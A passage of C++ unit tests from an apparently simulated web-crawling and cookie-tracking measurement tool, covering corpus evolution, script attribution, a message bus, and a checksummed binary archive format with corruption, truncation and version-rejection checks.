        response.headers.add("Set-Cookie", "sid=12345678; Path=/");
        response.body = "<html></html>";
        return response;
      });
  browser.network().set_response_hook(
      [](const net::HttpRequest&, net::HttpResponse& response) {
        const auto cookies = response.headers.get_all("Set-Cookie");
        response.headers.remove("Set-Cookie");
        for (const auto& header : cookies) {
          response.headers.add("Set-Cookie",
                               header.substr(0, header.size() / 2));
        }
      });
  net::HttpRequest probe;
  probe.url = net::Url::must_parse(testsupport::TestSite::kSiteUrl);
  probe.destination = net::RequestDestination::kDocument;
  const auto response = browser.network().dispatch(probe);
  ASSERT_EQ(response.set_cookie_headers().size(), 1u);
  EXPECT_EQ(response.set_cookie_headers()[0], "sid=123456");
}

}  // namespace
}  // namespace cg::browser
