// Longitudinal corpus-evolution tests: streaming/materialized byte
// identity, wave-0 identity, pure order-independent wave schedules,
// untouched sites becoming zero-byte inherited ranks, N-thread delta-pack
// determinism, and the checked-in golden wave pin.
#include <gtest/gtest.h>

#include <algorithm>
#include <fstream>
#include <iterator>
#include <sstream>
#include <string>
#include <vector>

#include "analysis/analyzer.h"
#include "corpus/corpus.h"
#include "corpus/streaming_corpus.h"
#include "crawler/crawler.h"
#include "evolve/wave_corpus.h"
#include "evolve/wave_plan.h"
#include "report/report.h"
#include "store/cgar.h"
#include "store/chain.h"
#include "store/reader.h"
#include "store/record_codec.h"
#include "store/writer.h"

namespace cg {
namespace {

corpus::CorpusParams small_params(int sites) {
  corpus::CorpusParams params;
  params.site_count = sites;
  return params;
}

/// Crawls `view` and returns every site's canonical CGAR payload encoding —
/// the byte string all the identity contracts below compare.
std::vector<std::string> crawl_payloads(const corpus::CorpusView& view,
                                        int threads = 1) {
  crawler::Crawler crawler(view);
  crawler::CrawlOptions options;
  options.threads = threads;
  std::vector<std::string> payloads;
  crawler.crawl(view.size(), options, [&](instrument::VisitLog&& log) {
    payloads.push_back(store::encode_site_payload(log));
  });
  return payloads;
}

/// Crawls `view` into an in-memory archive — what `cgsim pack` does, with
/// `base` non-null packing a delta archive against the chain's newest wave.
std::string pack_wave(const corpus::CorpusView& view, int threads,
                      const store::WaveChain* base,
                      store::WriterOptions writer_options) {
  std::ostringstream out;
  store::Writer writer(&out, writer_options);
  crawler::Crawler crawler(view);
  crawler::CrawlOptions options;
  options.threads = threads;
  options.archive = &writer;
  options.delta_base = base;
  crawler.crawl(view.size(), options, [](instrument::VisitLog&&) {});
  store::Error error;
  EXPECT_TRUE(writer.finish(&error)) << error.to_string();
  return out.str();
}

/// The provenance every wave of a chain shares (corpus seed, the default
/// fault schedule's seed, the evolution seed).
store::WriterOptions chain_options(const corpus::CorpusParams& params,
                                   const evolve::EvolutionParams& evolution) {
  store::WriterOptions options;
  options.corpus_seed = params.seed;
  corpus::Corpus probe(corpus::CorpusParams{});
  crawler::Crawler crawler(probe);
  const fault::FaultPlan plan = crawler.plan_for(crawler::CrawlOptions{});
  options.fault_seed = plan.enabled() ? plan.params().seed : 0;
  options.evolution_seed = evolution.seed;
  return options;
}

TEST(StreamingCorpusTest, ByteIdenticalToMaterializedCorpus) {
  // The O(shards)-memory provider must be indistinguishable from the
  // materialized one: same blueprints, same catalogs, same crawl bytes.
  const auto params = small_params(30);
  corpus::Corpus materialized(params);
  corpus::StreamingCorpus streaming(params);
  EXPECT_EQ(crawl_payloads(streaming), crawl_payloads(materialized));
}

TEST(StreamingCorpusTest, ThreadCountDoesNotChangeStreamedBytes) {
  corpus::StreamingCorpus streaming(small_params(24));
  EXPECT_EQ(crawl_payloads(streaming, 3), crawl_payloads(streaming, 1));
}

TEST(WaveCorpusTest, WaveZeroIsByteIdenticalToTheBaseCorpus) {
  const auto params = small_params(30);
  const evolve::EvolutionParams evolution;
  evolve::WaveCorpus wave0(params, evolution, 0);
  corpus::Corpus base(params);
  EXPECT_EQ(crawl_payloads(wave0), crawl_payloads(base));
}

TEST(WavePlanTest, DecisionsArePureAndOrderIndependent) {
  const evolve::EvolutionParams evolution;
  const evolve::WavePlan a(evolution, 0x5EED);
  const evolve::WavePlan b(evolution, 0x5EED);
  // Walk waves and ranks backwards through an independently constructed
  // plan: decide() must be a pure function of (params, seed, rank, wave),
  // not of access order.
  for (int wave = 3; wave >= 1; --wave) {
    for (int rank = 197; rank >= 1; rank -= 7) {
      const auto first = a.decide(rank, wave);
      const auto again = b.decide(rank, wave);
      EXPECT_EQ(first.churned, again.churned);
      EXPECT_EQ(first.vendor_swap, again.vendor_swap);
      EXPECT_EQ(first.consent_flip, again.consent_flip);
      EXPECT_EQ(first.cookie_renewal, again.cookie_renewal);
      EXPECT_EQ(first.fp_rotation, again.fp_rotation);
    }
  }
}

TEST(WavePlanTest, ChurnTracksTheConfiguredRateAndGenerationsAccumulate) {
  const evolve::EvolutionParams evolution;  // 2% churn per wave
  const evolve::WavePlan plan(evolution, 0xC0FFEE);
  int churned = 0;
  const int ranks = 4000;
  for (int rank = 1; rank <= ranks; ++rank) {
    churned += plan.decide(rank, 1).churned ? 1 : 0;
  }
  EXPECT_GT(churned, ranks / 100);      // > 1%
  EXPECT_LT(churned, 3 * ranks / 100);  // < 3%

  // generation(rank, wave) counts the churn events in [1, wave].
  for (int rank = 1; rank <= 50; ++rank) {
    int expected = 0;
    for (int wave = 1; wave <= 4; ++wave) {
      expected += plan.decide(rank, wave).churned ? 1 : 0;
      EXPECT_EQ(plan.generation(rank, wave), expected)
          << "rank " << rank << " wave " << wave;
    }
  }
}

TEST(WaveCorpusTest, UntouchedSitesInheritAndDeltaPacksAreThreadIdentical) {
  const auto params = small_params(40);
  const evolve::EvolutionParams evolution;
  const store::WriterOptions base_options = chain_options(params, evolution);

  const evolve::WaveCorpus wave0(params, evolution, 0);
  store::Error error;
  const auto base = store::Reader::from_buffer(
      pack_wave(wave0, 1, nullptr, base_options), &error);
  ASSERT_TRUE(base.has_value()) << error.to_string();
  const auto chain = store::WaveChain::link({&*base}, &error);
  ASSERT_TRUE(chain.has_value()) << error.to_string();

  const evolve::WaveCorpus wave1(params, evolution, 1);
  store::WriterOptions delta_options = base_options;
  delta_options.kind = store::ArchiveKind::kDelta;
  delta_options.wave = 1;
  delta_options.base.corpus_seed = base->corpus_seed();
  delta_options.base.fault_seed = base->fault_seed();
  delta_options.base.evolution_seed = base->evolution_seed();
  delta_options.base.policy = base->policy();
  delta_options.base.wave = base->wave();
  delta_options.base.site_count =
      static_cast<std::uint32_t>(base->total_site_count());
  delta_options.base.footer_crc = base->footer_crc();

  // The acceptance contract: a delta archive packed at N threads is
  // byte-identical to the 1-thread pack.
  const std::string one = pack_wave(wave1, 1, &*chain, delta_options);
  EXPECT_EQ(pack_wave(wave1, 3, &*chain, delta_options), one);

  const auto delta = store::Reader::from_buffer(one, &error);
  ASSERT_TRUE(delta.has_value()) << error.to_string();
  EXPECT_EQ(delta->kind(), store::ArchiveKind::kDelta);
  EXPECT_EQ(delta->total_site_count(), 40);

  // Every rank the schedule never touched must cost zero archive bytes: a
  // footer-only inherited entry. (The converse is not asserted — a touched
  // site whose mutation happens not to change its crawl bytes may inherit
  // too.)
  const auto& inherited = delta->inherited_ranks();
  EXPECT_FALSE(inherited.empty());
  for (int rank = 1; rank <= 40; ++rank) {
    if (wave1.plan().decide(rank, 1).any()) continue;
    EXPECT_TRUE(std::binary_search(inherited.begin(), inherited.end(), rank))
        << "untouched rank " << rank << " was re-encoded";
  }
}

// ------------------------------------------------------------ golden pin --

std::string read_golden(const std::string& name) {
  std::ifstream in(std::string(CG_SOURCE_ROOT "/tests/golden/") + name);
  EXPECT_TRUE(in.good()) << name;
  std::string text((std::istreambuf_iterator<char>(in)),
                   std::istreambuf_iterator<char>());
  return text;
}

TEST(WaveCorpusTest, WaveTwoReproducesCheckedInGoldenSummary) {
  // Generated by `cgsim crawl --sites 40 --wave 2 --json` when seeded
  // evolution landed: the pin that the wave schedule and mutations never
  // drift. A change that alters wave-2 bytes must update the fixture
  // deliberately, not silently.
  const evolve::WaveCorpus view(small_params(40), evolve::EvolutionParams{},
                                2);
  crawler::Crawler crawler(view);
  analysis::Analyzer analyzer(view.entities());
  crawler::CrawlOptions options;
  crawler.crawl(view.size(), options, [&](instrument::VisitLog&& log) {
    analyzer.ingest(log);
  });
  EXPECT_EQ(report::summary_to_json(analyzer, 20).dump(2) + "\n",
            read_golden("wave2_summary.json"));
}

}  // namespace
}  // namespace cg
