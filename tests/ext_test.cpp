// Tests for extension-host utilities: stack attribution and the message bus.
#include <gtest/gtest.h>

#include "ext/attribution.h"
#include "ext/message_bus.h"

namespace cg::ext {
namespace {

webplat::StackTrace stack_of(std::initializer_list<webplat::StackFrame> fs) {
  webplat::StackTrace s;
  for (const auto& f : fs) s.push(f);
  return s;
}

TEST(AttributionTest, LastExternalFindsDeepestExternalFrame) {
  const auto stack = stack_of({{"https://a.com/a.js", "f", false},
                               {"https://b.example.co.uk/b.js", "g", false}});
  const auto who = attribute_stack(stack);
  EXPECT_FALSE(who.unknown);
  EXPECT_EQ(who.script_url, "https://b.example.co.uk/b.js");
  EXPECT_EQ(who.domain, "example.co.uk");
}

TEST(AttributionTest, SkipsInlineTopFrame) {
  const auto stack = stack_of(
      {{"https://a.com/a.js", "f", false}, {"", "inline", false}});
  const auto who = attribute_stack(stack);
  EXPECT_EQ(who.domain, "a.com");
}

TEST(AttributionTest, EmptyStackIsUnknown) {
  EXPECT_TRUE(attribute_stack(webplat::StackTrace{}).unknown);
}

TEST(AttributionTest, PureInlineStackIsUnknown) {
  const auto stack = stack_of({{"", "inline", false}});
  EXPECT_TRUE(attribute_stack(stack).unknown);
}

TEST(AttributionTest, AsyncFramesCountForLastExternal) {
  // Recovered async frame below an inline callback frame.
  const auto stack = stack_of(
      {{"https://tracker.com/t.js", "schedule", true}, {"", "cb", false}});
  const auto who = attribute_stack(stack, AttributionMode::kLastExternal);
  EXPECT_EQ(who.domain, "tracker.com");
}

TEST(AttributionTest, TopFrameOnlyIgnoresAsyncFrames) {
  const auto stack = stack_of(
      {{"https://tracker.com/t.js", "schedule", true}});
  const auto who = attribute_stack(stack, AttributionMode::kTopFrameOnly);
  EXPECT_TRUE(who.unknown);
}

TEST(AttributionTest, TopFrameOnlyUsesTopWhenExternal) {
  const auto stack = stack_of({{"https://a.com/a.js", "f", false},
                               {"https://b.com/b.js", "g", false}});
  const auto who = attribute_stack(stack, AttributionMode::kTopFrameOnly);
  EXPECT_EQ(who.domain, "b.com");
}

TEST(MessageBusTest, RequestResponseRoundTrip) {
  MessageBus bus;
  bus.register_handler("lookup", [](const std::string& payload) {
    return payload == "_ga" ? "googletagmanager.com" : "";
  });
  EXPECT_EQ(bus.request("lookup", "_ga"), "googletagmanager.com");
  EXPECT_EQ(bus.request("lookup", "nope"), "");
  EXPECT_EQ(bus.round_trips(), 2u);
}

TEST(MessageBusTest, UnknownTopicReturnsEmpty) {
  MessageBus bus;
  EXPECT_EQ(bus.request("nothing", "x"), "");
}

TEST(MessageBusTest, PostIsFireAndForget) {
  MessageBus bus;
  int hits = 0;
  bus.register_handler("log", [&](const std::string&) {
    ++hits;
    return "";
  });
  bus.post("log", "a");
  bus.post("log", "b");
  EXPECT_EQ(hits, 2);
  EXPECT_EQ(bus.posts(), 2u);
  EXPECT_EQ(bus.round_trips(), 0u);
  bus.reset_counters();
  EXPECT_EQ(bus.posts(), 0u);
}

}  // namespace
}  // namespace cg::ext
