// CGAR store tests: codec round-trips, archive determinism across thread
// counts, analysis-from-archive equivalence, footer/version rejection,
// delta archives (codec, wave chains, splice rejection), and checkpoint
// resume producing a byte-identical archive.
#include <gtest/gtest.h>

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "analysis/analyzer.h"
#include "analysis/archive.h"
#include "corpus/corpus.h"
#include "crawler/crawler.h"
#include "report/report.h"
#include "script/rng.h"
#include "store/cgar.h"
#include "store/chain.h"
#include "store/delta_codec.h"
#include "store/reader.h"
#include "store/record_codec.h"
#include "store/writer.h"

namespace cg::store {
namespace {

corpus::CorpusParams small_params(int sites) {
  corpus::CorpusParams params;
  params.site_count = sites;
  return params;
}

/// A VisitLog exercising every record type, every string-sharing pattern
/// (repeated domains), and the edge values the varint codec must handle.
instrument::VisitLog dense_log() {
  instrument::VisitLog log;
  log.site_host = "www.example.com";
  log.site = "example.com";
  log.rank = 42;
  log.pages_visited = 4;
  log.has_cookie_logs = true;
  log.has_request_logs = true;
  log.failure = fault::FailureClass::kSubresourceFailure;
  log.attempts = 3;
  log.landing_timings.dom_interactive = 812;
  log.landing_timings.dom_content_loaded = 1204;
  log.landing_timings.load_event = 2711;

  instrument::ScriptCookieSetRecord set;
  set.cookie_name = "_ga";
  set.value = "GA1.2.123.456";
  set.setter_url = "https://cdn.tracker.net/collect.js";
  set.setter_domain = "tracker.net";
  set.true_domain = "tracker.net";
  set.api = cookies::CookieSource::kCookieStore;
  set.change_type = cookies::CookieChange::Type::kOverwritten;
  set.category = script::Category::kAdvertising;
  set.inclusion = script::Inclusion::kIndirect;
  set.value_changed = true;
  set.expires_changed = true;
  set.prev_expires = 0;
  set.new_expires = 1234567890123LL;
  set.time = 1500;
  log.script_sets.push_back(set);
  set.cookie_name = "_gid";
  set.change_type = cookies::CookieChange::Type::kDeleted;
  set.new_expires = -1;  // negative exercises zigzag
  log.script_sets.push_back(set);

  instrument::HttpCookieSetRecord http;
  http.cookie_name = "session";
  http.value = "abc=/+&";
  http.response_host = "www.example.com";
  http.setter_domain = "example.com";
  http.http_only = true;
  http.first_party = true;
  http.time = 90;
  log.http_sets.push_back(http);

  instrument::CookieReadRecord read;
  read.reader_url = "https://cdn.tracker.net/collect.js";  // shared string
  read.reader_domain = "tracker.net";
  read.api = cookies::CookieSource::kDocumentCookie;
  read.cookies_returned = 17;
  read.time = 1600;
  log.reads.push_back(read);

  instrument::RequestRecord req;
  req.url = "https://px.tracker.net/p?uid=123";
  req.host = "px.tracker.net";
  req.dest_domain = "tracker.net";
  req.initiator_url = "https://cdn.tracker.net/collect.js";
  req.initiator_domain = "tracker.net";
  req.destination = net::RequestDestination::kImage;
  req.time = 1700;
  log.requests.push_back(req);

  instrument::DomModRecord dom;
  dom.modifier_domain = "tracker.net";
  dom.target_domain = "example.com";
  log.dom_mods.push_back(dom);

  instrument::ScriptIncludeRecord inc;
  inc.script_id = "tracker-collect";
  inc.url = "https://cdn.tracker.net/collect.js";
  inc.domain = "tracker.net";
  inc.category = script::Category::kAdvertising;
  inc.inclusion = script::Inclusion::kIndirect;
  log.includes.push_back(inc);
  inc.script_id = "";  // inline
  inc.url = "";
  inc.domain = "";
  inc.is_inline = true;
  log.includes.push_back(inc);
  return log;
}

/// Packs sites [0, count) of `corpus` into an in-memory archive at the given
/// thread count, mirroring what `cgsim pack` does.
std::string pack_to_string(const corpus::Corpus& corpus, int threads) {
  crawler::Crawler crawler(corpus);
  crawler::CrawlOptions options;
  options.threads = threads;
  WriterOptions writer_options;
  writer_options.corpus_seed = corpus.params().seed;
  const fault::FaultPlan plan = crawler.plan_for(options);
  writer_options.fault_seed = plan.enabled() ? plan.params().seed : 0;
  std::ostringstream out;
  Writer writer(&out, writer_options);
  options.archive = &writer;
  crawler.crawl(corpus.size(), options, [](instrument::VisitLog&&) {});
  Error error;
  EXPECT_TRUE(writer.finish(&error)) << error.to_string();
  return out.str();
}

std::filesystem::path temp_path(const char* name) {
  return std::filesystem::temp_directory_path() / name;
}

// ---- primitives ----------------------------------------------------------

TEST(CgarPrimitivesTest, VarintRoundTripsEdgeValues) {
  const std::uint64_t values[] = {0,    1,    127,        128,
                                  300,  16383, 16384,     0xFFFFFFFFull,
                                  ~0ull};
  for (const auto value : values) {
    std::string bytes;
    put_varint(bytes, value);
    ByteReader reader(bytes);
    EXPECT_EQ(reader.varint(), value);
    EXPECT_FALSE(reader.failed);
    EXPECT_EQ(reader.remaining(), 0u);
  }
}

TEST(CgarPrimitivesTest, ZigzagRoundTripsSignedValues) {
  const std::int64_t values[] = {0, -1, 1, -2, 63, -64, 1234567890123LL,
                                 -1234567890123LL, INT64_MAX, INT64_MIN};
  for (const auto value : values) {
    std::string bytes;
    put_zigzag(bytes, value);
    ByteReader reader(bytes);
    EXPECT_EQ(reader.zigzag(), value);
    EXPECT_FALSE(reader.failed);
  }
}

TEST(CgarPrimitivesTest, TruncatedAndOverlongVarintsFailCleanly) {
  ByteReader empty(std::string_view{});
  empty.varint();
  EXPECT_TRUE(empty.failed);

  const std::string dangling = "\x80\x80";  // continuation with no terminator
  ByteReader cut(dangling);
  cut.varint();
  EXPECT_TRUE(cut.failed);

  const std::string overlong(11, '\x80');  // > 10 bytes of continuation
  ByteReader huge(overlong);
  huge.varint();
  EXPECT_TRUE(huge.failed);
}

TEST(CgarPrimitivesTest, FixedWidthReadsAreBoundsChecked) {
  std::string bytes;
  put_u32le(bytes, 0xDEADBEEFu);
  put_u64le(bytes, 0x0123456789ABCDEFull);
  ByteReader reader(bytes);
  EXPECT_EQ(reader.u32le(), 0xDEADBEEFu);
  EXPECT_EQ(reader.u64le(), 0x0123456789ABCDEFull);
  EXPECT_EQ(reader.remaining(), 0u);
  reader.u32le();
  EXPECT_TRUE(reader.failed);
}

TEST(CgarPrimitivesTest, BlockFramingRoundTripsAndCatchesFlips) {
  const std::string block = encode_block(BlockType::kSite, "payload bytes");
  Error error;
  const auto frame = decode_block(block, 0, &error);
  ASSERT_TRUE(frame.has_value()) << error.to_string();
  EXPECT_EQ(frame->type, BlockType::kSite);
  EXPECT_EQ(frame->payload, "payload bytes");
  EXPECT_EQ(frame->total_size, block.size());

  for (std::size_t i = 0; i < block.size(); ++i) {
    std::string bad = block;
    bad[i] = static_cast<char>(bad[i] ^ 0x20);
    Error flip_error;
    const auto bad_frame = decode_block(bad, 0, &flip_error);
    if (bad_frame.has_value()) {
      // The only survivable flips are in the frame header and must not
      // reframe to a valid block; a surviving decode would be a CRC miss.
      ADD_FAILURE() << "bit flip at byte " << i << " went undetected";
    } else {
      EXPECT_NE(flip_error.code, fault::ArchiveFault::kNone);
    }
  }
}

// ---- record codec --------------------------------------------------------

TEST(RecordCodecTest, DenseLogRoundTripsExactly) {
  const instrument::VisitLog log = dense_log();
  const std::string payload = encode_site_payload(log);
  Error error;
  const auto decoded = decode_site_payload(payload, &error);
  ASSERT_TRUE(decoded.has_value()) << error.to_string();

  EXPECT_EQ(decoded->site_host, log.site_host);
  EXPECT_EQ(decoded->site, log.site);
  EXPECT_EQ(decoded->rank, log.rank);
  EXPECT_EQ(decoded->pages_visited, log.pages_visited);
  EXPECT_EQ(decoded->has_cookie_logs, log.has_cookie_logs);
  EXPECT_EQ(decoded->has_request_logs, log.has_request_logs);
  EXPECT_EQ(decoded->failure, log.failure);
  EXPECT_EQ(decoded->attempts, log.attempts);
  EXPECT_EQ(decoded->landing_timings.dom_interactive,
            log.landing_timings.dom_interactive);
  EXPECT_EQ(decoded->landing_timings.load_event,
            log.landing_timings.load_event);
  ASSERT_EQ(decoded->script_sets.size(), log.script_sets.size());
  EXPECT_EQ(decoded->script_sets[1].new_expires, -1);
  EXPECT_EQ(decoded->script_sets[0].change_type,
            cookies::CookieChange::Type::kOverwritten);
  ASSERT_EQ(decoded->includes.size(), 2u);
  EXPECT_TRUE(decoded->includes[1].is_inline);

  // Re-encoding the decode reproduces the bytes — the codec is a bijection
  // on its image, so field-by-field spot checks above generalize.
  EXPECT_EQ(encode_site_payload(*decoded), payload);
  EXPECT_EQ(peek_site_rank(payload), 42);
}

TEST(RecordCodecTest, EmptyLogRoundTrips) {
  instrument::VisitLog log;
  log.site_host = "www.empty.example";
  log.site = "empty.example";
  log.rank = 0;
  const std::string payload = encode_site_payload(log);
  Error error;
  const auto decoded = decode_site_payload(payload, &error);
  ASSERT_TRUE(decoded.has_value()) << error.to_string();
  EXPECT_EQ(encode_site_payload(*decoded), payload);
  EXPECT_TRUE(decoded->script_sets.empty());
  EXPECT_FALSE(decoded->complete());
}

TEST(RecordCodecTest, OutOfRangeEnumIsCorruptNotUb) {
  const instrument::VisitLog log = dense_log();
  std::string payload = encode_site_payload(log);
  // Walk the payload flipping each byte to 0xFF; decodes must either fail
  // with a taxonomy code or produce in-range enums — never garbage values.
  int rejected = 0;
  for (std::size_t i = 0; i < payload.size(); ++i) {
    std::string bad = payload;
    bad[i] = '\xFF';
    Error error;
    const auto decoded = decode_site_payload(bad, &error);
    if (!decoded.has_value()) {
      ++rejected;
      EXPECT_EQ(error.code, fault::ArchiveFault::kCorruptBlock);
    } else {
      for (const auto& record : decoded->script_sets) {
        EXPECT_LT(static_cast<int>(record.category), 11);
        EXPECT_LT(static_cast<int>(record.api), 3);
      }
    }
  }
  EXPECT_GT(rejected, 0);
}

// ---- writer/reader round trip -------------------------------------------

TEST(StoreRoundTripTest, CrawlArchiveReplaysEveryLogExactly) {
  corpus::Corpus corpus(small_params(60));
  crawler::Crawler crawler(corpus);
  crawler::CrawlOptions options;

  std::vector<std::string> live_payloads;
  std::ostringstream out;
  WriterOptions writer_options;
  writer_options.corpus_seed = corpus.params().seed;
  writer_options.fault_seed = 7;
  Writer writer(&out, writer_options);
  options.archive = &writer;
  crawler.crawl(corpus.size(), options, [&](instrument::VisitLog&& log) {
    live_payloads.push_back(encode_site_payload(log));
  });
  Error error;
  ASSERT_TRUE(writer.finish(&error)) << error.to_string();
  EXPECT_EQ(writer.sites_written(), corpus.size());

  const auto reader = Reader::from_buffer(out.str(), &error);
  ASSERT_TRUE(reader.has_value()) << error.to_string();
  EXPECT_EQ(reader->site_count(), corpus.size());
  EXPECT_EQ(reader->corpus_seed(), corpus.params().seed);
  EXPECT_EQ(reader->fault_seed(), 7u);
  EXPECT_EQ(reader->schema_version(), instrument::kVisitLogSchemaVersion);

  std::size_t i = 0;
  ASSERT_TRUE(reader->for_each(
      [&](instrument::VisitLog&& log) {
        ASSERT_LT(i, live_payloads.size());
        EXPECT_EQ(encode_site_payload(log), live_payloads[i]) << "site " << i;
        ++i;
      },
      &error))
      << error.to_string();
  EXPECT_EQ(i, live_payloads.size());
}

TEST(StoreRoundTripTest, RandomAccessByRank) {
  corpus::Corpus corpus(small_params(30));
  const std::string archive = pack_to_string(corpus, 1);
  Error error;
  const auto reader = Reader::from_buffer(archive, &error);
  ASSERT_TRUE(reader.has_value()) << error.to_string();

  // Site ranks are 1-based: corpus index i carries rank i + 1.
  const auto log = reader->visit(17, &error);
  ASSERT_TRUE(log.has_value()) << error.to_string();
  EXPECT_EQ(log->rank, 17);
  EXPECT_EQ(log->site_host, corpus.site(16).host);

  // Absent rank: empty optional, but *not* a corruption class.
  const auto missing = reader->visit(12345, &error);
  EXPECT_FALSE(missing.has_value());
  EXPECT_EQ(error.code, fault::ArchiveFault::kNone);

  const auto stats = reader->verify(&error);
  ASSERT_TRUE(stats.has_value()) << error.to_string();
  EXPECT_EQ(stats->sites, 30);
  EXPECT_EQ(stats->file_bytes, archive.size());
  EXPECT_GT(stats->record_count, 0u);
}

TEST(StoreDeterminismTest, ArchiveIsByteIdenticalAtAnyThreadCount) {
  corpus::Corpus corpus(small_params(80));
  const std::string one = pack_to_string(corpus, 1);
  const std::string two = pack_to_string(corpus, 2);
  const std::string four = pack_to_string(corpus, 4);
  EXPECT_EQ(one, two);
  EXPECT_EQ(one, four);
}

TEST(StoreDeterminismTest, AnalysisFromArchiveMatchesLiveCrawl) {
  corpus::Corpus corpus(small_params(80));

  analysis::Analyzer live(corpus.entities());
  crawler::Crawler crawler(corpus);
  crawler::CrawlOptions options;
  crawler.crawl(corpus.size(), options, [&](instrument::VisitLog&& log) {
    live.ingest(log);
  });

  const std::string archive = pack_to_string(corpus, 2);
  Error error;
  const auto reader = Reader::from_buffer(archive, &error);
  ASSERT_TRUE(reader.has_value()) << error.to_string();
  analysis::Analyzer replayed(corpus.entities());
  ASSERT_TRUE(analysis::analyze_archive(*reader, replayed, &error))
      << error.to_string();

  // Table 1 inputs: every aggregate the report layer derives must agree.
  EXPECT_EQ(report::summary_to_json(live, 50).dump(),
            report::summary_to_json(replayed, 50).dump());
  EXPECT_EQ(live.totals().sites_complete, replayed.totals().sites_complete);
  EXPECT_EQ(live.totals().sites_doc_exfil, replayed.totals().sites_doc_exfil);
  EXPECT_EQ(live.totals().sites_doc_overwrite,
            replayed.totals().sites_doc_overwrite);
  EXPECT_EQ(live.totals().sites_doc_delete,
            replayed.totals().sites_doc_delete);
  EXPECT_EQ(live.pair_count(cookies::CookieSource::kDocumentCookie),
            replayed.pair_count(cookies::CookieSource::kDocumentCookie));
  EXPECT_EQ(
      live.exfiltrated_pair_count(cookies::CookieSource::kDocumentCookie),
      replayed.exfiltrated_pair_count(cookies::CookieSource::kDocumentCookie));
}

// ---- envelope rejection --------------------------------------------------

TEST(StoreRejectionTest, MixedAndFutureVersionsAreRejected) {
  corpus::Corpus corpus(small_params(10));
  const std::string archive = pack_to_string(corpus, 1);
  Error error;

  // Future header version: a v2 file must not decode as v1.
  std::string future = archive;
  future[8] = 2;
  EXPECT_FALSE(Reader::from_buffer(future, &error).has_value());
  EXPECT_EQ(error.code, fault::ArchiveFault::kVersionMismatch);

  // Flipping the footer's own version byte breaks its CRC first — the
  // checksum is the outer line of defense.
  ASSERT_TRUE(Reader::from_buffer(archive, &error).has_value());
  const std::uint64_t footer_offset = [&] {
    ByteReader trailer(std::string_view(archive).substr(
        archive.size() - kTrailerSize, 8));
    return trailer.u64le();
  }();
  {
    std::string flipped = archive;
    // Footer payload starts after type byte + len varint + crc32; its first
    // byte is the format version. Locate it via decode_block on the intact
    // file: payload aliases the buffer, so the offset is recoverable.
    Error frame_error;
    const auto frame =
        decode_block(archive, footer_offset, &frame_error);
    ASSERT_TRUE(frame.has_value()) << frame_error.to_string();
    const std::size_t version_pos =
        static_cast<std::size_t>(frame->payload.data() - archive.data());
    EXPECT_EQ(archive[version_pos], 1);
    flipped[version_pos] = 2;
    EXPECT_FALSE(Reader::from_buffer(flipped, &error).has_value());
    EXPECT_EQ(error.code, fault::ArchiveFault::kChecksumMismatch);
  }

  // A *consistently* re-framed v2 footer (valid CRC) against a v1 header is
  // the mixed-version splice the footer's version copy exists to catch.
  {
    Error frame_error;
    const auto frame =
        decode_block(archive, footer_offset, &frame_error);
    ASSERT_TRUE(frame.has_value()) << frame_error.to_string();
    std::string payload(frame->payload);
    payload[0] = 2;  // footer claims v2
    std::string spliced = archive.substr(0, footer_offset);
    spliced += encode_block(BlockType::kFooter, payload);
    spliced += encode_trailer(footer_offset);
    EXPECT_FALSE(Reader::from_buffer(spliced, &error).has_value());
    EXPECT_EQ(error.code, fault::ArchiveFault::kVersionMismatch);
  }

  // Future record schema: footer with schema_version + 1, honestly framed.
  {
    const auto intact = Reader::from_buffer(archive, &error);
    ASSERT_TRUE(intact.has_value());
    FooterInfo info;
    info.schema_version = instrument::kVisitLogSchemaVersion + 1;
    info.corpus_seed = intact->corpus_seed();
    info.fault_seed = intact->fault_seed();
    std::string spliced = archive.substr(0, footer_offset);
    spliced += encode_block(BlockType::kFooter,
                            encode_footer_payload(info, intact->index()));
    spliced += encode_trailer(footer_offset);
    EXPECT_FALSE(Reader::from_buffer(spliced, &error).has_value());
    EXPECT_EQ(error.code, fault::ArchiveFault::kSchemaMismatch);
  }
}

TEST(StoreRejectionTest, EveryTruncationIsRejectedWithoutCrashing) {
  corpus::Corpus corpus(small_params(6));
  const std::string archive = pack_to_string(corpus, 1);
  for (std::size_t len = 0; len < archive.size(); ++len) {
    Error error;
    EXPECT_FALSE(Reader::from_buffer(archive.substr(0, len), &error)
                     .has_value())
        << "prefix of " << len << " bytes accepted";
    EXPECT_NE(error.code, fault::ArchiveFault::kNone) << "len=" << len;
  }
}

TEST(StoreRejectionTest, DuplicatedBlockCannotAgreeWithAnyFooter) {
  corpus::Corpus corpus(small_params(5));
  const std::string archive = pack_to_string(corpus, 1);
  Error error;
  const auto reader = Reader::from_buffer(archive, &error);
  ASSERT_TRUE(reader.has_value());
  const auto& index = reader->index();
  ASSERT_GE(index.size(), 2u);

  // Duplicate site block 1 in place (file grows; footer untouched).
  const auto& entry = index[1];
  std::string dup = archive;
  dup.insert(static_cast<std::size_t>(entry.offset + entry.length),
             archive.substr(static_cast<std::size_t>(entry.offset),
                            static_cast<std::size_t>(entry.length)));
  EXPECT_FALSE(Reader::from_buffer(dup, &error).has_value());
  EXPECT_NE(error.code, fault::ArchiveFault::kNone);
}

// ---- delta archives ------------------------------------------------------

/// Three synthetic wave-0 logs (ranks 1..3); wave 1 keeps rank 1
/// byte-identical, drifts rank 2 slightly, and rewrites rank 3 heavily.
std::vector<instrument::VisitLog> wave0_logs() {
  std::vector<instrument::VisitLog> logs;
  for (int rank = 1; rank <= 3; ++rank) {
    instrument::VisitLog log = dense_log();
    log.rank = rank;
    log.site_host = "www.site" + std::to_string(rank) + ".com";
    log.site = "site" + std::to_string(rank) + ".com";
    logs.push_back(std::move(log));
  }
  return logs;
}

std::vector<instrument::VisitLog> wave1_logs() {
  auto logs = wave0_logs();
  logs[1].script_sets[0].value = "GA1.2.999.999";  // small drift
  logs[2].requests.clear();                        // heavy rewrite
  logs[2].reads.clear();
  logs[2].includes.clear();
  return logs;
}

std::string pack_full(const std::vector<instrument::VisitLog>& logs,
                      WriterOptions options = {}) {
  std::ostringstream out;
  Writer writer(&out, options);
  for (const auto& log : logs) writer.add(log);
  Error error;
  EXPECT_TRUE(writer.finish(&error)) << error.to_string();
  return out.str();
}

/// WriterOptions for the next delta wave, with BaseProvenance copied from
/// the chain tail — what `cgsim pack --base` records.
WriterOptions delta_options_for(const Reader& tail, std::uint32_t wave) {
  WriterOptions options;
  options.corpus_seed = tail.corpus_seed();
  options.fault_seed = tail.fault_seed();
  options.kind = ArchiveKind::kDelta;
  options.wave = wave;
